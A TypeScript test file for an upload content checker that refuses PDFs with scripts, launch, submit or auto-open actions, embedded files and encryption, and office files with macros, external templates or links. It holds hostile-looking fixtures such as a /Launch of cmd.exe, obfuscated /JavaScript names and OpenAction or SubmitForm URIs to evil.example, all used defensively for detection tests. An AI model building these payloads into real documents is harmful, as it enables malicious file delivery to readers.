import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import fc from 'fast-check'
import PDFDocument from 'pdfkit'
import { afterAll, describe, expect, test } from 'vitest'
import { checkContent } from '#app/papers/file-content.server.ts'
import { jpeg, office, pdf, pdfWithPacked, png, zip } from '../support/files.ts'
import { hidden } from '../support/hidden-scripts.ts'
import { signPdf } from '../support/signed-pdf.ts'

const folder = mkdtempSync(path.join(tmpdir(), 'mini-kip-content-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

async function judge(bytes: Buffer | string) {
  const file = path.join(folder, 'file')
  writeFileSync(file, bytes)
  const content = await checkContent(file)
  return content.ok ? content.extension : content.refusal
}

test('PDF, DOCX, XLSX, PNG and JPEG are recognised by their bytes', async () => {
  const found = [
    await judge(pdf()),
    await judge(office('docx')),
    await judge(office('xlsx')),
    await judge(png),
    await judge(jpeg),
  ]
  expect(found).toEqual(['pdf', 'docx', 'xlsx', 'png', 'jpg'])
})

test('a picture is looked through to its end: one that breaks off anywhere is refused', async () => {
  for (const picture of [png, jpeg])
    for (const kept of [0.5, 0.9, 1 - 1 / picture.length])
      expect(await judge(picture.subarray(0, Math.floor(picture.length * kept)))).toBe(
        'file_picture_unreadable',
      )
  const changed = Buffer.from(png)
  changed.writeUInt8(changed.readUInt8(45) ^ 1, 45)
  expect(await judge(changed)).toBe('file_picture_unreadable')
})

test('what a camera leaves behind the end of a picture makes it nothing else', async () => {
  for (const [picture, kind] of [
    [png, 'png'],
    [jpeg, 'jpg'],
  ] as const)
    for (const behind of [pdf(), zip([['a.txt', 'a']]), jpeg, '<script>'])
      expect(await judge(Buffer.concat([picture, Buffer.from(behind)]))).toBe(kind)
})

test('an empty file is told apart from a wrong one', async () => {
  expect(await judge('')).toBe('file_empty')
  for (const wrong of [
    'x',
    '<svg onload="alert(1)"/>',
    'MZ\x90',
    '<html></html>',
    'GIF89a',
    zip([['a.txt', 'a']]),
  ])
    expect(await judge(wrong)).toBe('file_type')
})

test('a PDF may begin with a byte order mark or other bytes, as its readers accept it', async () => {
  expect(await judge(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdf()]))).toBe('pdf')
  expect(await judge(Buffer.concat([Buffer.from('\n'.repeat(1000)), pdf()]))).toBe('pdf')
  expect(await judge(Buffer.concat([Buffer.from('\n'.repeat(1030)), pdf()]))).toBe('file_type')
})

describe('a PDF that does more than be read is refused with the reason', () => {
  test.each([
    ['file_pdf_script', '/S /JavaScript /JS (app.alert(1))'],
    ['file_pdf_script', '/S/J#61vaScript'],
    ['file_pdf_script', '/#4a#53 (x)'],
    ['file_pdf_xfa', '/XFA [(template) 103 0 R]'],
    ['file_pdf_launch', '/S /Launch /F (cmd.exe)'],
    ['file_pdf_launch', '/S /GoToR /F (other.pdf)'],
    ['file_pdf_launch', '/S /GoToE /T << /R /C >>'],
    ['file_pdf_submit', '/S /SubmitForm /F (https://evil.example)'],
    ['file_pdf_submit', '/S /ImportData /F (data.fdf)'],
    ['file_pdf_media', '/S /Rendition /OP 0'],
    ['file_pdf_media', '/RichMediaContent << >>'],
    ['file_pdf_media', '/Type /Annot /Subtype /RichMedia'],
    ['file_pdf_attachment', '/Type /Filespec /F (a.exe) /EF << /F 103 0 R >>'],
    ['file_pdf_attachment', '/EmbeddedFiles << /Names [(a) 103 0 R] >>'],
    ['file_pdf_opening', '/OpenAction << /S /URI /URI (https://evil.example) >>'],
    ['file_pdf_opening', '/AA << /O << /S /URI /URI (https://evil.example) >> >>'],
  ])('%s: %s, wherever it is hidden', async (refusal, entries) => {
    for (const [how, bytes] of hidden(entries)) expect(await judge(bytes), how).toBe(refusal)
  })

  test('a form whose XFA part is broken', async () => {
    expect(await judge(pdf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: BROKEN_STREAM }))).toBe(
      'file_pdf_xfa',
    )
  })

  test('a password, also an empty one', async () => {
    expect(await judge(await printed({ userPassword: 'geheim' }))).toBe('file_pdf_encrypted')
    expect(await judge(await printed({ ownerPassword: 'geheim' }))).toBe('file_pdf_encrypted')
  })

  test('what opens by a reference to its action', async () => {
    const action = '5 0 obj\n<< /S /Named /N /Print >>\nendobj'
    expect(await judge(pdf({ catalog: '/OpenAction 5 0 R', objects: action }))).toBe('file_pdf_opening')
  })
})

const BROKEN_STREAM = '5 0 obj\n<< /Filter /FlateDecode /Length 3 >>\nstream\nxyz\nendstream\nendobj'

describe('a PDF that is only read passes', () => {
  test.each([
    ['with a link to a web page', '/S /URI /URI (https://www.lu.ch)'],
    ['that opens at a page', '/OpenAction [103 0 R /Fit]'],
    ['that goes to a page when opened', '/OpenAction << /S /GoTo /D [103 0 R /Fit] >>'],
    ['with a form field without script', '/FT /Tx /T (Name) /V (Muster)'],
    ['with words about scripts', '/Title (/S /JavaScript /JS und Launch) /JavaScriptless true'],
    ['with a page', '/Type /Page'],
  ])('%s', async (_what, entries) => {
    for (const [how, bytes] of hidden(entries)) expect(await judge(bytes), how).toBe('pdf')
  })

  test('printed by a program, and signed', async () => {
    const bytes = await printed({})
    expect(await judge(bytes)).toBe('pdf')
    expect(await judge(await signPdf(bytes))).toBe('pdf')
  })

  test('packed in a way that searching for words could not look into', async () => {
    const packed = pdfWithPacked('<< /S /JavaScript >>', { filter: '[/FlateDecode]' })
    expect(await judge(packed)).toBe('file_pdf_script')
    expect(await judge(pdfWithPacked('<< /Type /Page >>', { filter: '[/FlateDecode]' }))).toBe('pdf')
  })
})

test('a PDF filled up with zeros or blanks behind its end passes', async () => {
  for (const filling of [Buffer.alloc(5_000), Buffer.from('\n '.repeat(5_000))])
    expect(await judge(Buffer.concat([pdf(), filling]))).toBe('pdf')
})

test('a PDF that cannot be read to its end is refused as damaged, and says what to do', async () => {
  const whole = pdf()
  expect(await judge(whole.subarray(0, whole.length - 60))).toBe('file_unreadable')
  expect(await judge('%PDF-1.7\nhallo')).toBe('file_unreadable')
  expect(await judge(pdf({ objects: '102 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj' }))).toBe(
    'file_unreadable',
  )
})

describe('an office file that fetches or does something is refused with the reason', () => {
  const related = (type: string, target = 'https://evil.example/x', mode = 'External') =>
    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`
  const withRelation = (relation: string) =>
    office('docx', {
      parts: [['word/_rels/settings.xml.rels', `<Relationships>${relation}</Relationships>`]],
    })

  test.each([
    ['file_office_macros', office('docx', { names: ['word/vbaProject.bin'] })],
    ['file_office_macros', office('xlsx', { names: ['xl/activeX/activeX1.xml'] })],
    [
      'file_office_macros',
      office('docx', { types: '<Override ContentType="application/vnd.ms-office.vbaProject"/>' }),
    ],
    [
      'file_office_macros',
      office('xlsx', {
        types: '<Override ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/>',
      }),
    ],
    ['file_office_template', withRelation(related('attachedTemplate'))],
    [
      'file_office_template',
      withRelation(related('attached&#x54;emplate', '\\\\server\\x.dotm', ' external ')),
    ],
    ['file_office_external', withRelation(related('image'))],
    ['file_office_external', withRelation(related('frame'))],
    ['file_office_external', office('xlsx', { names: ['xl/externalLinks/externalLink1.xml'] })],
    ['file_office_embedded', withRelation(related('oleObject', 'embeddings/x.bin', 'Internal'))],
    ['file_office_embedded', office('docx', { names: ['word/embeddings/oleObject1.bin'] })],
    ['file_office_unreadable', withRelation('<Relationship')],
    [
      'file_office_unreadable',
      office('docx', { parts: [['word/_rels/a.xml.rels', '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>']] }),
    ],
    [
      'file_office_unreadable',
      office('xlsx', { parts: [['xl/worksheets/sheet1.xml', 'a'.repeat(60_000_000)]] }),
    ],
    [
      'file_office_unreadable',
      office('xlsx', { names: Array.from({ length: 6000 }, (_, index) => `xl/a${index}.xml`) }),
    ],
  ])('%s', async (refusal, bytes) => {
    expect(await judge(bytes)).toBe(refusal)
  })

  test.each(['docm', 'dotm', 'xlsm', 'xltm', 'xlam', 'pptm'] as const)(
    'macros are named as the reason in a %s, under whatever name it comes',
    async (kind) => {
      expect(await judge(office(kind))).toBe('file_office_macros')
      expect(await judge(office(kind, { names: ['word/vbaProject.bin'] }))).toBe('file_office_macros')
    },
  )

  test('another archive, and a template without macros, are of a kind that is not taken', async () => {
    expect(await judge(office('dotx'))).toBe('file_type')
    expect(await judge(zip([['notes.txt', 'x']]))).toBe('file_type')
  })

  test('a link to a web page, a style and a picture inside are none', async () => {
    for (const harmless of [
      related('hyperlink'),
      related('styles', 'styles.xml', 'Internal'),
      related('image', 'media/a.png', 'Internal'),
    ])
      expect(await judge(withRelation(harmless))).toBe('docx')
  })
})

test('a file cut off anywhere or changed anywhere gets an answer', async () => {
  const samples = [pdf(), pdfWithPacked('<< /Type /Page >>'), office('docx'), office('xlsx'), png, jpeg]
  const damaged = fc.tuple(fc.constantFrom(...samples), fc.nat(), fc.nat({ max: 255 }), fc.nat())
  await fc.assert(
    fc.asyncProperty(damaged, async ([sample, at, byte, length]) => {
      const bytes = Buffer.from(sample)
      bytes[at % bytes.length] = byte
      expect(typeof (await judge(bytes.subarray(0, length % (bytes.length + 1))))).toBe('string')
    }),
    { numRuns: 200 },
  )
})

function printed(options: PDFKit.PDFDocumentOptions): Promise<Buffer> {
  return new Promise((resolve) => {
    const document = new PDFDocument(options)
    const chunks: Buffer[] = []
    document.on('data', (chunk: Buffer) => chunks.push(chunk))
    document.on('end', () => resolve(Buffer.concat(chunks)))
    document.text('Vereinbarung').end()
  })
}
